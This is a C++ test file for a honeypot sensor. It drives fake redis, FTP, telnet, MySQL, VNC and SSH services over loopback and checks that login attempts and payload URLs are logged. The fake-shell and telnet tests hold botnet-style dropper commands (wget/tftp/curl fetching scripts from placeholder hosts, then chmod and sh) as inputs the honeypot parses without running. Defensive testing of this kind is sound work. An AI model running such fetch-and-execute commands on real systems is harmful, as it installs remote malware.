// The honeypot's services, each driven over a real socket on 127.0.0.1; what they log is
// read back from the inbox they ship to and decoded by the pipeline's own decoder.

#include "sensors/honeypot/honeypot.h"

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <libssh/libssh.h>
#include <netinet/in.h>
#include <openssl/evp.h>
#include <sys/socket.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>
#include <thread>

#include "core/catalogue.h"
#include "pipeline/jsonl_decoder.h"
#include "sensors/honeypot/adb/adb.h"
#include "sensors/honeypot/amp/ber.h"
#include "sensors/honeypot/amp/protocols.h"
#include "sensors/honeypot/amp/tracker.h"
#include "sensors/honeypot/darknet/darknet.h"
#include "sensors/honeypot/ftp/ftp.h"
#include "sensors/honeypot/http/http.h"
#include "sensors/honeypot/ics/ics.h"
#include "sensors/honeypot/mysql/mysql.h"
#include "sensors/honeypot/rdp/rdp.h"
#include "sensors/honeypot/redis/redis.h"
#include "sensors/honeypot/shell/shell.h"
#include "sensors/honeypot/smb/smb.h"
#include "sensors/honeypot/ssh/client_hello.h"
#include "sensors/honeypot/telnet/telnet.h"
#include "sensors/honeypot/vnc/vnc.h"

namespace vantage::honeypot {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;

struct Decoded {
  std::string type;
  std::map<std::string, std::string> fields;
};

// Starts the named services on 127.0.0.1 (free ports), shipping into an inbox in a temp dir.
class HoneypotFixture : public ::testing::Test {
 protected:
  void start(const std::vector<std::string>& names) {
    dir_ = fs::temp_directory_path() /
           ("vantage_hp_" + std::to_string(::getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    std::vector<std::string> listen;
    for (const auto& n : names) listen.push_back(n + "=127.0.0.1:0");
    auto bindings = parse_listen(listen);
    ASSERT_TRUE(bindings.ok()) << bindings.error().message;
    sensors::SensorHostOptions ho;
    ho.sensor = "honeypot";
    ho.state_dir = (dir_ / "state").string();
    ho.tcp_threads = 2;
    ho.udp_threads = 1;
    ho.allow_root = true;  // the test process keeps its privileges; `vantage honeypot` drops
    ho.destination = sensors::inbox_destination((dir_ / "inbox").string());
    HoneypotSettings settings = settings_;
    settings.sensor_name = "test-honeypot";
    settings.rules_dir = std::string(VANTAGE_SOURCE_DIR) + "/conf/honeypot";
    if (tweak_) tweak_(settings);
    hp_ = Honeypot::create(settings, *bindings, std::move(ho));
    ASSERT_TRUE(hp_.ok()) << hp_.error().message;
    for (const auto& [name, at] : (*hp_)->bound()) ports_[name] = at.port;
  }
  void run() { ASSERT_TRUE((*hp_)->start().ok()); }
  std::vector<Decoded> events() {
    EXPECT_TRUE((*hp_)->host().flush(10s));
    std::vector<Decoded> out;
    const auto& catalogue = core::Catalogue::builtin();
    pipeline::JsonlDecoder decoder(catalogue, nullptr);
    std::vector<fs::path> files;
    for (const auto& e : fs::directory_iterator(dir_ / "inbox")) files.push_back(e.path());
    std::sort(files.begin(), files.end());
    for (const auto& f : files) {
      std::ifstream in(f);
      for (std::string line; std::getline(in, line);) {
        core::Event ev;
        pipeline::DecodeError err;
        EXPECT_TRUE(decoder.decode(line, ev, err))
            << err.field << ": " << err.reason << " in " << line;
        Decoded d;
        d.type = ev.type()->name;
        for (int c = 0; c < ev.size(); ++c) {
          if (!ev.is_null(c))
            d.fields[ev.type()->columns[static_cast<size_t>(c)].name] = ev.text(c);
        }
        out.push_back(std::move(d));
      }
    }
    return out;
  }
  int connect_to(const std::string& service) {
    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(ports_.at(service));
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    EXPECT_EQ(::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
    timeval tv{5, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    return fd;
  }
  static std::string exchange(int fd, std::string_view send, size_t expect_bytes) {
    EXPECT_EQ(::send(fd, send.data(), send.size(), MSG_NOSIGNAL),
              static_cast<ssize_t>(send.size()));
    std::string got;
    char buf[4096];
    while (got.size() < expect_bytes) {
      ssize_t n = ::recv(fd, buf, sizeof buf, 0);
      if (n <= 0) break;
      got.append(buf, static_cast<size_t>(n));
    }
    return got;
  }
  void TearDown() override {
    if (hp_.ok()) (*hp_)->stop();
    fs::remove_all(dir_);
  }

  fs::path dir_;
  HoneypotSettings settings_ = [] {
    HoneypotSettings s;
    s.idle_timeout = 2s;
    return s;
  }();  // a test may change it before start()
  Result<std::unique_ptr<Honeypot>> hp_{Error::internal("not started")};
  std::map<std::string, uint16_t> ports_;
  std::function<void(HoneypotSettings&)> tweak_;  // settings a test changes before start()
};

TEST(HoneypotListen, ParsesEntriesAndDefaultsToLoopback) {
  auto all = parse_listen({});
  ASSERT_TRUE(all.ok());
  ASSERT_EQ(all->size(), static_cast<size_t>(
                             std::count_if(builtin_services().begin(), builtin_services().end(),
                                           [](const ServiceModule& s) { return s.default_on; })));
  for (const auto& b : *all) {
    EXPECT_EQ(b.at.ip.to_string(), "127.0.0.1");
    EXPECT_EQ(b.at.port, b.service->loopback_port);
  }
  auto one = parse_listen({"redis=[::1]:6379"});
  ASSERT_TRUE(one.ok());
  EXPECT_EQ((*one)[0].at.to_string(), "[::1]:6379");
  EXPECT_FALSE(parse_listen({"nosuch=127.0.0.1:1"}).ok());
  EXPECT_FALSE(parse_listen({"redis"}).ok());
  EXPECT_FALSE(parse_listen({"redis=127.0.0.1:99999"}).ok());
}

TEST(HoneypotServices, EveryServiceFillsOnlyItsCatalogueTypes) {
  const auto& catalogue = core::Catalogue::builtin();
  std::set<std::string> names;
  std::set<uint16_t> loopback_ports;
  for (const auto& s : builtin_services()) {
    EXPECT_TRUE(names.insert(s.name).second) << "duplicate service " << s.name;
    if (s.default_on) {  // started on loopback by default: a port of its own, unprivileged
      EXPECT_TRUE(loopback_ports.insert(s.loopback_port).second)
          << "shared loopback port " << s.name;
      EXPECT_GE(s.loopback_port, 1024) << s.name << ": `vantage up` runs unprivileged";
    }
    EXPECT_FALSE(s.report_types.empty()) << s.name;
    for (const auto& t : s.report_types) EXPECT_NE(catalogue.find(t), nullptr) << t;
    EXPECT_TRUE(s.install) << s.name;
  }
}

TEST(RedisProtocol, ReadsRespAndInlineCommandsWithinBounds) {
  std::vector<std::string_view> args;
  size_t used = 0;
  std::string resp = "*3\r\n$4\r\nAUTH\r\n$5\r\nadmin\r\n$6\r\nsecret\r\nPING\r\n";
  ASSERT_EQ(redis::parse_command(resp, args, used), redis::Parse::kComplete);
  ASSERT_EQ(args.size(), 3u);
  EXPECT_EQ(args[2], "secret");
  std::string rest = resp.substr(used);  // args are views into it: it must outlive them
  EXPECT_EQ(rest, "PING\r\n");
  ASSERT_EQ(redis::parse_command(rest, args, used), redis::Parse::kComplete);
  EXPECT_EQ(args[0], "PING");
  EXPECT_EQ(redis::parse_command("*2\r\n$4\r\nAUTH\r\n$10\r\nab", args, used),
            redis::Parse::kIncomplete);
  EXPECT_EQ(redis::parse_command("*2\r\n$4\r\nAUTHX\r\n", args, used), redis::Parse::kMalformed);
  EXPECT_EQ(redis::parse_command("*99999\r\n", args, used), redis::Parse::kMalformed);
  EXPECT_EQ(redis::parse_command("*1\r\n$-1\r\n", args, used), redis::Parse::kMalformed);
  EXPECT_EQ(redis::parse_command(std::string(70000, 'A'), args, used), redis::Parse::kMalformed);
}

TEST_F(HoneypotFixture, RedisLogsEveryAuthAttemptAndRefusesIt) {
  start({"redis"});
  run();
  int fd = connect_to("redis");
  EXPECT_EQ(exchange(fd, "PING\r\n", 1), "-NOAUTH Authentication required.\r\n");
  EXPECT_EQ(exchange(fd, "*2\r\n$4\r\nAUTH\r\n$6\r\nhunter\r\n", 1), "-ERR invalid password\r\n");
  std::string raw_pw = "p\xff\"w";
  std::string cmd = "*3\r\n$4\r\nAUTH\r\n$5\r\nadmin\r\n$" + std::to_string(raw_pw.size()) +
                    "\r\n" + raw_pw + "\r\n";
  EXPECT_EQ(exchange(fd, cmd, 1),
            "-WRONGPASS invalid username-password pair or user is disabled.\r\n");
  EXPECT_EQ(exchange(fd, "QUIT\r\n", 5), "+OK\r\n");
  ::close(fd);
  auto evs = events();
  ASSERT_EQ(evs.size(), 2u);
  for (const auto& e : evs) {
    EXPECT_EQ(e.type, "event4_honeypot_brute_force");
    EXPECT_EQ(e.fields.at("src_ip"), "127.0.0.1");
    EXPECT_EQ(e.fields.at("dst_port"), std::to_string(ports_["redis"]));
    EXPECT_EQ(e.fields.at("application"), "redis");
    EXPECT_EQ(e.fields.at("public_source"), "test-honeypot");
    EXPECT_EQ(e.fields.at("protocol"), "tcp");
  }
  EXPECT_EQ(evs[0].fields.at("password"), "hunter");
  EXPECT_EQ(evs[0].fields.count("username"), 0u);
  EXPECT_EQ(evs[1].fields.at("username"), "admin");
  EXPECT_EQ(evs[1].fields.at("password"), "p\\xff\"w");
}

// ---- Login services (ftp, telnet, mysql, vnc, ssh) ---------------------------------------

// Reads what the service sends until `want` appears (or 5 s pass); returns all of it.
std::string read_until(int fd, std::string_view want) {
  std::string got;
  char buf[4096];
  while (got.find(want) == std::string::npos) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n <= 0) break;
    got.append(buf, static_cast<size_t>(n));
  }
  return got;
}

// Reads until `want` has appeared `times` times.
std::string read_times(int fd, std::string_view want, int times) {
  std::string got;
  char buf[4096];
  auto count = [&] {
    int n = 0;
    for (size_t p = got.find(want); p != std::string::npos; p = got.find(want, p + 1)) ++n;
    return n;
  };
  while (count() < times) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n <= 0) break;
    got.append(buf, static_cast<size_t>(n));
  }
  return got;
}

void send_all(int fd, std::string_view bytes) {
  ASSERT_EQ(::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL),
            static_cast<ssize_t>(bytes.size()));
}

// True once the peer closed the connection (read returns 0 or an error) within 5 s.
bool closed_by_peer(int fd) {
  char buf[4096];
  for (;;) {
    ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) return true;
    if (n < 0) return false;  // the 5 s receive timeout
  }
}

std::vector<Decoded> of_service(const std::vector<Decoded>& evs, const std::string& app) {
  std::vector<Decoded> out;
  for (const auto& e : evs)
    if (e.fields.count("application") && e.fields.at("application") == app) out.push_back(e);
  return out;
}

std::string field(const Decoded& e, const std::string& name) {
  auto it = e.fields.find(name);
  return it == e.fields.end() ? std::string() : it->second;
}

TEST(FtpCommand, SplitsVerbAndKeepsTheWholeArgument) {
  auto c = ftp::split_command("pass  two words ");
  EXPECT_EQ(c.verb, "PASS");
  EXPECT_EQ(c.arg, " two words ");
  EXPECT_EQ(ftp::split_command("QUIT").arg, "");
  EXPECT_EQ(ftp::split_command("averyveryverylongverb x").verb, "AVERYVER");
  std::string_view line;
  size_t used = 0;
  EXPECT_EQ(read_line("USER a\r\nPASS", 1024, line, used), LineRead::kComplete);
  EXPECT_EQ(line, "USER a");
  EXPECT_EQ(used, 8u);
  EXPECT_EQ(read_line("USER a", 1024, line, used), LineRead::kIncomplete);
  EXPECT_EQ(read_line(std::string(2000, 'x'), 1024, line, used), LineRead::kTooLong);
  EXPECT_EQ(read_line(std::string(1025, 'x') + "\n", 1024, line, used), LineRead::kTooLong);
}

TEST_F(HoneypotFixture, FtpLogsEveryUserPassPairAndClosesAfterMaxAttempts) {
  settings_.max_attempts = 3;
  start({"ftp"});
  run();
  int fd = connect_to("ftp");
  EXPECT_EQ(read_until(fd, "\r\n"), "220 (vsFTPd 3.0.3)\r\n");
  EXPECT_EQ(exchange(fd, "SYST\r\n", 1), "215 UNIX Type: L8\r\n");
  EXPECT_EQ(exchange(fd, "PASS early\r\n", 1), "503 Login with USER first.\r\n");
  // Pipelined, with a password holding spaces and one that is not UTF-8.
  send_all(fd, "USER root\r\nPASS two words\r\nuser admin\nPASS p\xff\xfe\r\n");
  EXPECT_EQ(read_times(fd, "530 Login incorrect.\r\n", 2),
            "331 Please specify the password.\r\n530 Login incorrect.\r\n"
            "331 Please specify the password.\r\n530 Login incorrect.\r\n");
  EXPECT_EQ(exchange(fd, "LIST\r\n", 1), "530 Please login with USER and PASS.\r\n");
  send_all(fd, "USER x\r\nPASS y\r\n");
  EXPECT_EQ(read_until(fd, "530 Login incorrect.\r\n"),
            "331 Please specify the password.\r\n530 Login incorrect.\r\n");
  EXPECT_TRUE(closed_by_peer(fd));  // the third refusal ends the connection
  ::close(fd);
  auto evs = of_service(events(), "ftp");
  ASSERT_EQ(evs.size(), 3u);
  EXPECT_EQ(field(evs[0], "username"), "root");
  EXPECT_EQ(field(evs[0], "password"), "two words");
  EXPECT_EQ(field(evs[1], "username"), "admin");
  EXPECT_EQ(field(evs[1], "password"), "p\\xff\\xfe");
  EXPECT_EQ(field(evs[2], "username"), "x");
  for (const auto& e : evs) {
    EXPECT_EQ(e.type, "event4_honeypot_brute_force");
    EXPECT_EQ(field(e, "service"), "ftp");
    EXPECT_EQ(field(e, "tag"), "ftp-brute-force");
    EXPECT_EQ(field(e, "dst_port"), std::to_string(ports_["ftp"]));
    EXPECT_FALSE(field(e, "start_time").empty());
    EXPECT_FALSE(field(e, "end_time").empty());
  }
  // One connection: one id, attempts numbered.
  std::string id = field(evs[0], "event_id");
  ASSERT_EQ(id.size(), 18u);
  EXPECT_EQ(id.substr(16), "-1");
  EXPECT_EQ(field(evs[2], "event_id"), id.substr(0, 16) + "-3");
}

TEST_F(HoneypotFixture, FtpBoundsLinesAndKeepsWhatWasLogged) {
  settings_.extra_tag = "demo";
  start({"ftp"});
  run();
  int fd = connect_to("ftp");
  read_until(fd, "\r\n");
  send_all(fd, "USER a\r\nPASS b\r\n");
  read_until(fd, "530");
  send_all(fd, "USER " + std::string(5000, 'A'));  // no end of line, ever
  EXPECT_NE(read_until(fd, "500").find("500 Input line too long."), std::string::npos);
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  auto evs = of_service(events(), "ftp");
  ASSERT_EQ(evs.size(), 1u);
  EXPECT_EQ(field(evs[0], "password"), "b");
  EXPECT_EQ(field(evs[0], "tag"), "ftp-brute-force,demo");  // honeypot.extra_tag
}

TEST(TelnetReader, SplitsNegotiationsSubnegotiationsAndLines) {
  telnet::Reader r;
  std::vector<telnet::Item> items;
  std::string echo;
  // WILL TTYPE, SB TTYPE IS "XTERM" with an escaped IAC, SB NAWS 80x24, then a line with a
  // backspace, ended by CR NUL.
  using namespace std::string_literals;
  std::string in =
      "\xff\xfb\x18\xff\xfa\x18\x00XT\xff\xff"
      "ERM\xff\xf0\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0"
      "roox\x08t\r\0pw"s;
  size_t used = r.feed(in, items, &echo);
  ASSERT_EQ(items.size(), 4u);
  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kNegotiation);
  EXPECT_EQ(items[0].command, telnet::kWill);
  EXPECT_EQ(items[0].option, telnet::kOptTtype);
  EXPECT_EQ(items[1].kind, telnet::Item::Kind::kSubnegotiation);
  std::string name;
  ASSERT_TRUE(telnet::parse_ttype(items[1].text, name));
  EXPECT_EQ(name,
            "XT\xff"
            "ERM");
  uint16_t w = 0, h = 0;
  ASSERT_TRUE(telnet::parse_naws(items[2].text, w, h));
  EXPECT_EQ(w, 80);
  EXPECT_EQ(h, 24);
  EXPECT_EQ(items[3].text, "root");
  EXPECT_EQ(echo, "roox\b \bt\r\n");
  // It stopped after the line; the CR NUL and "pw" come next, "pw" kept as a partial line.
  items.clear();
  std::string rest = in.substr(used);
  EXPECT_EQ(r.feed(rest, items, nullptr), rest.size());
  EXPECT_TRUE(items.empty());
  EXPECT_EQ(r.feed("\n", items, nullptr), 1u);
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].text, "pw");
  // An IAC sequence cut short is left for later; oversized lines and subnegotiations stop it.
  items.clear();
  EXPECT_EQ(r.feed("ab\xff\xfa\x18", items, nullptr), 2u);
  telnet::Reader small(telnet::Limits{8, 4});
  items.clear();
  small.feed(std::string(20, 'x'), items, nullptr);
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kTooLong);
  items.clear();
  telnet::Reader small2(telnet::Limits{8, 4});
  small2.feed("\xff\xfa\x18" + std::string(10, 'y'), items, nullptr);
  ASSERT_EQ(items.size(), 1u);
  EXPECT_EQ(items[0].kind, telnet::Item::Kind::kTooLong);
  EXPECT_FALSE(telnet::parse_naws("abc", w, h));
  EXPECT_FALSE(telnet::parse_ttype("\x01", name));
}

TEST_F(HoneypotFixture, TelnetLogsLoginsWithTheTerminalType) {
  settings_.max_attempts = 2;
  start({"telnet"});
  run();
  int fd = connect_to("telnet");
  std::string hello = read_until(fd, "Username: ");
  EXPECT_EQ(hello.substr(0, 12), "\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f");
  send_all(fd, "\xff\xfb\x18\xff\xfd\x05");  // WILL TTYPE, DO STATUS
  std::string asked = read_until(fd, "\xff\xfc\x05");
  EXPECT_NE(asked.find("\xff\xfa\x18\x01\xff\xf0"), std::string::npos);  // SB TTYPE SEND
  send_all(fd, std::string("\xff\xfa\x18\x00VT100\xff\xf0", 11));
  send_all(fd, "root\r\n");
  EXPECT_NE(read_until(fd, "Password: ").find("root\r\nPassword: "), std::string::npos);
  send_all(fd, std::string("s3cret\r\0", 8));
  std::string failed = read_until(fd, "Username: ");
  EXPECT_EQ(failed.find("s3cret"), std::string::npos);  // a password is not echoed
  EXPECT_NE(failed.find("Login incorrect"), std::string::npos);
  send_all(fd, "admin\radx\x7fmin\r");
  EXPECT_NE(read_until(fd, "Login incorrect\r\n").find("Login incorrect"), std::string::npos);
  EXPECT_TRUE(closed_by_peer(fd));  // max_attempts = 2
  ::close(fd);
  auto evs = of_service(events(), "telnet");
  ASSERT_EQ(evs.size(), 2u);
  EXPECT_EQ(field(evs[0], "username"), "root");
  EXPECT_EQ(field(evs[0], "password"), "s3cret");
  EXPECT_EQ(field(evs[0], "client_version"), "VT100");
  EXPECT_EQ(field(evs[1], "username"), "admin");
  EXPECT_EQ(field(evs[1], "password"), "admin");
  EXPECT_EQ(field(evs[1], "tag"), "telnet-brute-force");
}

TEST(FakeShell, FindsTheUrlsBotsFetchAndRunsNothing) {
  auto urls = shell::fetch_urls(
      "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; "
      "sh bins.sh; busybox tftp -g -r mips 203.0.113.9; tftp 203.0.113.9 -c get arm7; "
      "curl -o x.sh -A 'Mozilla' https://evil.example/x.sh|sh; /bin/busybox wget -O- "
      "evil.example:8080/y; ftpget -u a -p b 192.0.2.1 local.bin remote.bin; echo http://no");
  std::vector<std::string> want = {"http://198.51.100.7/bins.sh", "tftp://203.0.113.9/mips",
                                   "tftp://203.0.113.9/arm7",     "https://evil.example/x.sh",
                                   "http://evil.example:8080/y",  "ftp://192.0.2.1/remote.bin"};
  EXPECT_EQ(urls, want);
  auto r = shell::respond("uname -a; whoami; /bin/busybox ECCHI; nosuch", "root");
  EXPECT_NE(r.output.find("Linux server"), std::string::npos);
  EXPECT_NE(r.output.find("root\n"), std::string::npos);
  EXPECT_NE(r.output.find("ECCHI: applet not found"), std::string::npos);
  EXPECT_NE(r.output.find("nosuch: command not found"), std::string::npos);
  EXPECT_FALSE(r.exit);
  EXPECT_TRUE(shell::respond("ls; exit; wget http://after.example/", "root").exit);
  std::string many;
  for (int i = 0; i < 40; ++i) many += "wget http://h" + std::to_string(i) + ".example/;";
  EXPECT_EQ(shell::fetch_urls(many).size(), shell::kMaxUrls);
  EXPECT_EQ(shell::fetch_urls("wget http://" + std::string(5000, 'a'))[0].size(),
            shell::kMaxUrlBytes);
}

TEST_F(HoneypotFixture, TelnetMediumModeShellLogsUrlsAndFetchesNothing) {
  settings_.mode = "medium";
  start({"telnet"});
  run();
  int fd = connect_to("telnet");
  read_until(fd, "Username: ");
  send_all(fd, "guest\r\n");
  read_until(fd, "Password: ");
  send_all(fd, "guest\r\n");
  read_until(fd, "Username: ");  // not root/admin: refused as in low mode
  send_all(fd, "root\r\n");
  read_until(fd, "Password: ");
  send_all(fd, "vizxv\r\n");
  EXPECT_NE(read_until(fd, "# ").find("root@server:~# "), std::string::npos);
  send_all(fd, "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh\r\n");
  std::string out = read_until(fd, "# ");
  EXPECT_NE(out.find("unable to resolve host address '198.51.100.7'"), std::string::npos);
  send_all(fd, "exit\r\n");
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  auto evs = of_service(events(), "telnet");
  ASSERT_EQ(evs.size(), 3u);
  EXPECT_EQ(field(evs[0], "tag"), "telnet-brute-force");
  EXPECT_EQ(field(evs[1], "tag"), "telnet-login");
  EXPECT_EQ(field(evs[1], "password"), "vizxv");
  EXPECT_EQ(field(evs[2], "tag"), "telnet-payload");
  EXPECT_EQ(field(evs[2], "payload_url"), "http://198.51.100.7/x.sh");
  EXPECT_EQ(field(evs[2], "username"), "");
}

// mysql_native_password's answer (the MySQL manual): SHA1(pw) XOR SHA1(salt + SHA1(SHA1(pw))).
std::string native_scramble(std::string_view salt, std::string_view pw) {
  auto sha1 = [](std::string_view in) {
    unsigned char d[EVP_MAX_MD_SIZE];
    unsigned int n = 0;
    EVP_Digest(in.data(), in.size(), d, &n, EVP_sha1(), nullptr);
    return std::string(reinterpret_cast<char*>(d), n);
  };
  std::string h1 = sha1(pw), h2 = sha1(h1), h3 = sha1(std::string(salt) + h2);
  for (size_t i = 0; i < h1.size(); ++i) h1[i] = static_cast<char>(h1[i] ^ h3[i]);
  return h1;
}

// The greeting's 20-byte salt: 8 bytes after the connection id, 12 after the reserved bytes.
std::string greeting_salt(std::string_view g) {
  size_t v = g.find('\0', 5);
  std::string salt(g.substr(v + 5, 8));
  salt += g.substr(v + 5 + 8 + 1 + 2 + 1 + 2 + 2 + 1 + 10, 12);
  return salt;
}

std::string handshake41(uint32_t caps, std::string_view user, std::string_view auth,
                        std::string_view plugin, std::string_view attrs = {}) {
  std::string p;
  for (int i = 0; i < 4; ++i) p.push_back(static_cast<char>((caps >> (8 * i)) & 0xff));
  p.append("\x00\x00\x00\x01\x21", 5);
  p.append(23, '\0');
  p.append(user).push_back('\0');
  p.push_back(static_cast<char>(auth.size()));
  p.append(auth);
  if (!plugin.empty()) p.append(plugin).push_back('\0');
  if (!attrs.empty()) {
    p.push_back(static_cast<char>(attrs.size()));
    p.append(attrs);
  }
  return mysql::packet(1, p);
}

TEST(MysqlProtocol, ReadsHandshakeResponsesOldAndNew) {
  using namespace mysql;
  std::string_view payload;
  uint8_t seq = 0;
  size_t used = 0;
  std::string attrs = std::string(
      "\x0c_client_name\x08libmysql\x0f_client_version\x06"
      "8.0.36",
      45);
  std::string pkt = handshake41(
      kClientProtocol41 | kClientSecureConnection | kClientPluginAuth | kClientConnectAttrs, "root",
      "01234567890123456789", "caching_sha2_password", attrs);
  std::string with_more = pkt + "extra";
  ASSERT_EQ(read_packet(with_more, payload, seq, used), Parse::kComplete);
  EXPECT_EQ(seq, 1);
  EXPECT_EQ(used, pkt.size());
  HandshakeResponse hr;
  ASSERT_TRUE(parse_handshake_response(payload, hr));
  EXPECT_EQ(hr.username, "root");
  EXPECT_EQ(hr.auth_response, "01234567890123456789");
  EXPECT_EQ(hr.plugin, "caching_sha2_password");
  EXPECT_EQ(hr.client_name, "libmysql");
  EXPECT_EQ(hr.client_version, "8.0.36");
  // 3.20 form: 2-byte capabilities, 3-byte max packet, user, scrambled answer.
  std::string old(
      "\x05\x00\xff\xff\x00sa\x00"
      "ABCDEFGH",
      16);
  ASSERT_TRUE(parse_handshake_response(old, hr));
  EXPECT_EQ(hr.username, "sa");
  EXPECT_EQ(hr.auth_response, "ABCDEFGH");
  // SSLRequest, truncated and oversized packets.
  std::string ssl(32, '\0');
  ssl[0] = 0x00;
  ssl[1] = 0x0a;  // PROTOCOL_41 | SSL in the low 16 bits
  ssl[1] = static_cast<char>((kClientProtocol41 | kClientSsl) >> 8);
  ASSERT_TRUE(parse_handshake_response(ssl, hr));
  EXPECT_TRUE(hr.ssl_request);
  EXPECT_FALSE(parse_handshake_response(std::string("\x00\x02\x00", 3), hr));
  EXPECT_EQ(read_packet(std::string("\x10\x00\x00\x01"
                                    "abc",
                                    7),
                        payload, seq, used),
            Parse::kIncomplete);
  EXPECT_EQ(read_packet(std::string("\xff\xff\xff\x01", 4), payload, seq, used), Parse::kMalformed);
  EXPECT_EQ(native_notation("ab", "\x01\xff"), "$mysqlna$6162*01ff");
}

TEST_F(HoneypotFixture, MysqlLogsTheScrambleAClearPasswordAndSwitchesOtherMethods) {
  start({"mysql"});
  run();
  constexpr uint32_t kCaps =
      mysql::kClientProtocol41 | mysql::kClientSecureConnection | mysql::kClientPluginAuth;
  // mysql_native_password: the salt and the answer are logged, the answer checks out.
  int fd = connect_to("mysql");
  std::string g = read_until(fd, "mysql_native_password");
  ASSERT_GT(g.size(), 60u);
  EXPECT_EQ(g[4], 10);  // protocol 10
  std::string salt = greeting_salt(g.substr(4));
  std::string answer = native_scramble(salt, "hunter2");
  std::string err = exchange(fd, handshake41(kCaps, "root", answer, "mysql_native_password"), 60);
  EXPECT_NE(err.find("Access denied for user 'root'@'127.0.0.1' (using password: YES)"),
            std::string::npos);
  EXPECT_EQ(static_cast<uint8_t>(err[4]), 0xff);
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  // mysql_clear_password: the password itself.
  fd = connect_to("mysql");
  read_until(fd, "mysql_native_password");
  exchange(fd, handshake41(kCaps, "admin", std::string("pl@in\0", 6), "mysql_clear_password"), 40);
  ::close(fd);
  // caching_sha2_password: asked to switch to mysql_native_password, then logged.
  fd = connect_to("mysql");
  g = read_until(fd, "mysql_native_password");
  std::string salt3 = greeting_salt(g.substr(4));
  std::string sw =
      exchange(fd, handshake41(kCaps, "dba", std::string(32, 'x'), "caching_sha2_password"), 30);
  ASSERT_GE(sw.size(), 5u);
  EXPECT_EQ(sw[3], 2);  // sequence number
  EXPECT_EQ(static_cast<uint8_t>(sw[4]), 0xfe);
  EXPECT_NE(sw.find("mysql_native_password"), std::string::npos);
  std::string answer3 = native_scramble(salt3, "letmein");
  exchange(fd, mysql::packet(3, answer3), 40);
  ::close(fd);
  auto evs = of_service(events(), "mysql");
  ASSERT_EQ(evs.size(), 3u);
  std::map<std::string, std::string> by_user;  // connections may land on either loop thread
  for (const auto& e : evs) by_user[field(e, "username")] = field(e, "password");
  EXPECT_EQ(by_user["root"], mysql::native_notation(salt, answer));
  EXPECT_EQ(by_user["admin"], "pl@in");
  EXPECT_EQ(by_user["dba"], mysql::native_notation(salt3, answer3));
}

TEST_F(HoneypotFixture, VncLogsChallengeAndResponseIn38And33) {
  start({"vnc"});
  run();
  int fd = connect_to("vnc");
  EXPECT_EQ(read_until(fd, "\n"), "RFB 003.008\n");
  EXPECT_EQ(exchange(fd, "RFB 003.008\n", 2), std::string("\x01\x02", 2));
  std::string challenge = exchange(fd, std::string(1, '\x02'), 16);
  ASSERT_EQ(challenge.size(), 16u);
  std::string response = "0123456789abcdef";
  send_all(fd, response);
  std::string result = read_until(fd, "failed");
  EXPECT_EQ(result, std::string("\0\0\0\x01\0\0\0\x15"
                                "Authentication failed",
                                29));
  ::close(fd);
  fd = connect_to("vnc");
  read_until(fd, "\n");
  std::string c33 = exchange(fd, "RFB 003.003\n", 20);
  ASSERT_EQ(c33.size(), 20u);
  EXPECT_EQ(c33.substr(0, 4), std::string("\0\0\0\x02", 4));  // 3.3: the server picks type 2
  exchange(fd, std::string(16, 'z'), 4);
  ::close(fd);
  fd = connect_to("vnc");  // not RFB: closed, nothing logged
  read_until(fd, "\n");
  send_all(fd, "GET / HTTP/1.0\r\n");
  EXPECT_TRUE(closed_by_peer(fd));
  ::close(fd);
  auto evs = of_service(events(), "vnc");
  ASSERT_EQ(evs.size(), 2u);
  std::map<std::string, Decoded> by_version;  // connections may land on either loop thread
  for (const auto& e : evs) by_version[field(e, "client_version")] = e;
  ASSERT_EQ(by_version.count("RFB 003.008"), 1u);
  ASSERT_EQ(by_version.count("RFB 003.003"), 1u);
  EXPECT_EQ(field(by_version["RFB 003.008"], "password"), vnc::john_notation(challenge, response));
  EXPECT_EQ(field(by_version["RFB 003.008"], "username"), "");
  EXPECT_EQ(field(by_version["RFB 003.003"], "password"),
            vnc::john_notation(c33.substr(4), std::string(16, 'z')));
  EXPECT_EQ(vnc::john_notation("\x01\xab", "\xff"), "$vnc$*01AB*FF");
}

std::string ssh_string(std::string_view s) {
  std::string out;
  for (int i = 3; i >= 0; --i) out.push_back(static_cast<char>((s.size() >> (8 * i)) & 0xff));
  return out.append(s);
}

TEST(SshClientHello, ReadsIdentAndKexinitAndComputesHassh) {
  std::string payload(1, '\x14');
  payload += std::string(16, 'c');
  for (const char* l : {"curve25519-sha256,ecdh-sha2-nistp256", "ssh-ed25519", "aes128-ctr",
                        "aes256-ctr", "hmac-sha2-256", "hmac-sha1", "none", "zlib", "", ""})
    payload += ssh_string(l);
  payload += std::string(5, '\0');
  size_t pad = 8 - ((5 + payload.size()) % 8);
  if (pad < 4) pad += 8;
  std::string packet =
      ssh_string(std::string(1, static_cast<char>(pad)) + payload + std::string(pad, '\0'));
  std::string hello = "SSH-2.0-Go\r\n" + packet;
  ssh::ClientHello h;
  EXPECT_EQ(ssh::parse_client_hello("SSH-2.0-G", h), ssh::HelloParse::kIncomplete);
